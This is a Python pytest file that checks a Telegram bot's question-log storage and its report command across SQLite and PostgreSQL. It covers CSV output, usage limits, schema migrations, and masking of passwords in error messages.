    ids = {row[0] for row in log_backend.sql("SELECT id FROM questions")}
    log_backend.sql("UPDATE questions SET id = '-dash-id' WHERE question = '海珠区有多少公园'")
    assert report.main(["--db", str(hostile_db), "--format", "csv"]) == 0
    table = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert "-dash-id" in {r["id"] for r in table} and len(ids) == len(table)
    assert report.csv_cell(3) == 3 and report.csv_cell("a=b") == "a=b"
    assert report.csv_cell("-") == "'-" and report.csv_cell("") == ""


@pytest.mark.parametrize("off", ["off", "OFF", "Off", "none", "no", "false", "0", " off "])
def test_report_db_accepts_every_off_spelling(
    off: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / off).write_text("not a database")  # even if such a file happens to exist
    assert report.main(["--db", off]) == 1
    assert "disabled" in capsys.readouterr().err
    monkeypatch.setenv("BOT_DB", off)
    assert report.main([]) == 1
    assert "disabled" in capsys.readouterr().err


def _bot(*args: str) -> subprocess.CompletedProcess[str]:
    """`python -m bot ...` as a person types it."""
    root = Path(__file__).resolve().parent.parent
    return subprocess.run(
        [sys.executable, "-m", "bot", *args],
        capture_output=True,
        text=True,
        cwd=root,
        timeout=120,
        check=False,
    )


def test_report_runs_as_the_readme_writes_it(report_db: str) -> None:
    out = _bot("report", "--since", "7d", "--format", "json", "--db", str(report_db))
    assert out.returncode == 0, out.stderr
    assert json.loads(out.stdout)["stats"]["total"] == 4
    rows = list(
        csv.DictReader(
            io.StringIO(_bot("report", "--db", str(report_db), "--format", "csv").stdout)
        )
    )
    assert {r["question"] for r in rows} >= {"海珠区有多少个公园", "天河区"}
    text = _bot("report", "--db", str(report_db))
    assert text.returncode == 0 and "unanswered" in text.stdout.lower()
    for flag in ("--help", "-h"):
        usage = _bot("report", flag)
        assert usage.returncode == 0 and "--since" in usage.stdout and "--format" in usage.stdout
    bad = _bot("report", "--since", "seven days")
    assert bad.returncode == 2 and "expected e.g. 7d" in bad.stderr


def test_report_without_a_log_says_why(tmp_path: Path) -> None:
    """SQLite: no file at the path."""
    out = _bot("report", "--db", str(tmp_path / "none.sqlite3"))
    assert out.returncode == 1
    assert "console commands" in out.stderr and "TELEGRAM_BOT_TOKEN" in out.stderr


def test_the_log_is_bounded_per_asker_per_text_and_in_rows(log_backend: Backend) -> None:
    clock = Clock(T0)
    log = log_backend.log(secret="s", clock=clock, max_rows=1000, max_per_asker_day=50)
    log.start()
    flood = "托位" * 2000  # 4,000 characters, as a flooding user sends them
    for _ in range(300):  # one user, far over the day's budget
        log.record(chat_type="private", user_id=7, answer=ans(flood))
    log.record(chat_type="private", user_id=8, answer=ans("另一个人的问题"))  # others still count
    log.flush()
    stored = log_backend.rows()
    flooder = [r for r in stored if r["question"].startswith("托位")]
    assert len(flooder) == 50 and log.over_budget == 250
    assert max(len(r["question"]) for r in stored) <= 600
    assert any(r["question"] == "另一个人的问题" for r in stored)
    clock.t = T0 + DAY  # a new day: the budget starts again
    for user in range(2000):  # many askers: the row cap holds, the oldest go first
        log.record(chat_type="private", user_id=1000 + user, answer=ans(f"q{user}"))
    log.flush()
    log.purge()
    log.close()
    log2 = log_backend.log(secret="s", clock=clock, max_rows=1000)
    log2.start()
    log2.close()
    assert log_backend.sql("SELECT count(*) FROM questions")[0][0] <= 1000
    stats = review.read_stats(log_backend.location, days=30, now=T0 + DAY)
    assert stats.rows <= 1000 and stats.size_bytes > 0
    assert "Log: " in format_stats(stats, 30)


# -- choosing the backend ------------------------------------------------------------------------


def test_open_log_chooses_the_backend_from_the_value(tmp_path: Path, pg_url: str) -> None:
    sqlite_log = open_log(tmp_path / "q.sqlite3", secret="s")
    pg_log = open_log(pg_url, secret="s")
    other_scheme = open_log(pg_url.replace("postgresql://", "postgres://", 1), secret="s")
    try:
        assert sqlite_log.recording and pg_log.recording and other_scheme.recording
        assert sqlite_log.database.kind == "sqlite" and sqlite_log.path == tmp_path / "q.sqlite3"
        assert pg_log.database.kind == other_scheme.database.kind == "postgresql"
        assert pg_log.path is None and pg_log.location == pg_url  # no password to hide here
    finally:
        for log in (sqlite_log, pg_log, other_scheme):
            log.close()
    with pytest.raises(ValueError, match="made a Path"):  # Path() turns "//" into "/"
        QuestionLog(Path(pg_url), secret="s")
    assert list(tmp_path.iterdir()) == [tmp_path / "q.sqlite3"]


def test_both_backends_have_the_same_schema(tmp_path: Path, pg_url: str) -> None:
    backends = (SqliteBackend(tmp_path / "q.sqlite3"), PgBackend(pg_url))
    for backend in backends:
        log = backend.log(secret="s")
        log.start()
        log.close()
    sqlite, pg = backends
    assert len(PG_MIGRATIONS) == SCHEMA_VERSION == sqlite.version() == pg.version()
    assert sqlite.tables() == pg.tables() == {"questions", "staff_changes", "staff_digests"}
    # the same named indexes (beside those of the keys, which both make by themselves)
    assert sqlite.indexes() == {i for i in pg.indexes() if not i.endswith(("_pkey", "_key"))}
    for table in ("questions", "staff_changes"):
        # PostgreSQL spells out the insertion order SQLite keeps as its implicit rowid
        assert sqlite.columns(table) == [c for c in pg.columns(table) if c != "rowid"]


# -- SQLite only: the file itself ----------------------------------------------------------------


def test_sqlite_log_is_a_wal_file_migrated_by_user_version(tmp_path: Path) -> None:
    path = tmp_path / "q.sqlite3"
    log = open_log(path, secret="s")
    log.close()
    with closing(sqlite3.connect(path, isolation_level=None)) as conn:
        assert conn.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
        assert conn.execute("PRAGMA user_version").fetchone()[0] == SCHEMA_VERSION
        assert migrate(conn) == SCHEMA_VERSION  # nothing left to do


def test_sqlite_file_that_is_not_a_database(
    tmp_path: Path, caplog: pytest.LogCaptureFixture, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "q.sqlite3"
    path.write_bytes(b"this is not a database, " * 100)
    with caplog.at_level(logging.ERROR, logger="bot.questionlog.store"):
        log = open_log(path, secret="s")
    assert not log.recording
    assert any("cannot open" in r.getMessage() for r in caplog.records)
    log.record(chat_type="private", user_id=1, answer=ans("q"))
    log.close()
    with pytest.raises(QuestionLogError, match="not a database"):
        review.stats_of(log)
    assert report.main(["--db", str(path)]) == 1
    assert "not a database" in capsys.readouterr().err
    assert path.read_bytes() == b"this is not a database, " * 100  # left as it was


# -- PostgreSQL only: the server -----------------------------------------------------------------


def test_pg_unreachable_database_degrades_and_never_shows_the_password(
    pg_url: str, caplog: pytest.LogCaptureFixture, capsys: pytest.CaptureFixture[str]
) -> None:
    server = pg_url.rsplit("/", 1)[0].replace("postgres@", "postgres:s3cret-pw@", 1)
    url = server + "/no_such_database"
    log = QuestionLog(url, secret="s")
    assert "s3cret-pw" not in log.location and "***" in log.location
    with caplog.at_level(logging.DEBUG):
        log.start()
    assert not log.recording
    [error] = [r for r in caplog.records if r.name == "bot.questionlog.store"]
    assert error.levelno == logging.ERROR and "no_such_database" in error.getMessage()
    rid = log.record(chat_type="private", user_id=1, answer=ans("q"))
    log.record_choice(rid, "x")
    log.record_feedback(rid, True, user_id=1)
    started = time.perf_counter()
    log.flush(timeout=2)
    assert time.perf_counter() - started < 1
    with pytest.raises(QuestionLogError) as raised:
        review.stats_of(log)
    assert log.purge() == 0
    log.close()
    assert report.main(["--db", url]) == 1
    err = capsys.readouterr().err
    assert "no_such_database" in err
    shown = [r.getMessage() for r in caplog.records] + [str(raised.value), err]
    assert not [text for text in shown if "s3cret-pw" in text]


@postgresql_only
def test_pg_writer_survives_its_connections_being_dropped(
    qlog: QuestionLog, log_backend: Backend
) -> None:
    qlog.record(chat_type="private", user_id=1, answer=ans("before"))
    qlog.flush()
    [(dropped,)] = log_backend.sql(
        "SELECT count(pg_terminate_backend(pid)) FROM pg_stat_activity"
        " WHERE datname = current_database() AND pid <> pg_backend_pid()"
    )
    assert dropped >= 1  # the log's pooled connection, at least
    qlog.record(chat_type="private", user_id=1, answer=ans("after"))
    qlog.flush(timeout=10)
    assert [r["question"] for r in log_backend.rows()] == ["before", "after"]
    assert review.stats_of(qlog).total == 2  # reading takes a sound connection too


def test_pg_replicas_starting_together_share_one_log(pg_url: str) -> None:
    logs = [QuestionLog(pg_url, secret="s") for _ in range(3)]
    threads = [threading.Thread(target=log.start) for log in logs]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=30)
    try:
        assert all(log.recording for log in logs)
        ids = {
            log.record(chat_type="group", user_id=i, answer=ans(f"q{i}"))
            for i, log in enumerate(logs)
        }
        for log in logs:
            log.flush()
    finally:
        for log in logs:
            log.close()
    backend = PgBackend(pg_url)
    assert {r["id"] for r in backend.rows()} == ids
    applied = backend.sql("SELECT version FROM schema_migrations WHERE store = 'questionlog'")
    assert sorted(v for (v,) in applied) == list(range(1, SCHEMA_VERSION + 1))  # each once


def test_pg_report_without_a_log_says_why(pg_url: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert report.main(["--db", pg_url]) == 1
    assert "no question log at " + pg_url in capsys.readouterr().err
    assert PgBackend(pg_url).tables() == set()  # the report created nothing
